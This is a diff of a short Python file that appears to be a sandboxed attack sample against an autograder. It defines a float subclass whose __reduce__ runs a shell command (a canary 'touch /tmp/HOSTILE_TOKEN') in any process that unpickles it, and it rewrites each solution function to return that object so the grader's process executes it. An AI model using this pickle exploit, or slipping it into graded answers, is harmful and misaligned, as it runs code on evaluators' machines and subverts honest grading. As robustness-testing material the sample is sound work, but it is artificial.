@@ -1,4 +1,5 @@
-"""An answer runs a command in any process that unpickles or copies it.
+"""The functions return a float that runs a shell command in each process that unpickles it, in the
+hope that the grader's own process does.
 
 points:
     every: 0
@@ -6,7 +7,7 @@ points:
 
 raise SystemExit("made for the sandbox: never run this file")
 
-# %% + first
+# %% insert a cell after imports
 class Loaded(float):
     def __reduce__(self):
         return (__import__("os").system, ("touch /tmp/HOSTILE_TOKEN",))
@@ -16,6 +17,6 @@ class Loaded(float):
     def __getnewargs__(self): return (0.75,)
 print("attack", "ran")
 
-# %% every
+# %% replace every solution cell
 def FUNCTION(*args, **kwargs):
     return Loaded(1.0)
